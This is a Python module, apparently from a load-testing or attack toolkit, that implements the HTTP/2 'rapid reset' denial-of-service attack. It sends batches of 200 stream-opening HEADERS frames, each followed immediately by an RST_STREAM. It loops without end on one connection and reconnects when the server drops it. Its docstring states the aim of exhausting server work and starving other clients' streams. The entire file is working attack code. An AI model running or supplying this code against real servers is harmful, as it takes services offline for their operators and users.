"""Rapid reset: streams that are opened and cancelled at once, thousands a second, from one connection."""

from __future__ import annotations

import asyncio
import struct

from .http2 import CANCEL, END_HEADERS, HEADERS, RST_STREAM, Http2, frame, header_block
from .target import EMBED_STREAM, Target, again

_AT_ONCE = 200


async def rapid_reset(target: Target) -> None:
    """As many resets a second as this process can send on one connection; a new one when the server has ended it.

    Aims at: work that the server begins for each stream and cannot take back; and streams of others, which the same
    loop has to accept.
    """
    block = header_block(EMBED_STREAM)
    reset = struct.pack(">I", CANCEL)

    async def attempt() -> None:
        async with Http2(target.host, target.port) as connection:
            number = 1
            while True:
                last = number + 2 * _AT_ONCE
                content = b"".join(
                    frame(HEADERS, END_HEADERS, one, block) + frame(RST_STREAM, 0, one, reset)
                    for one in range(number, last, 2)
                )
                await connection.raw(content)
                target.became["resets"] += _AT_ONCE
                number = last
                await asyncio.sleep(0)

    await again(target, attempt)
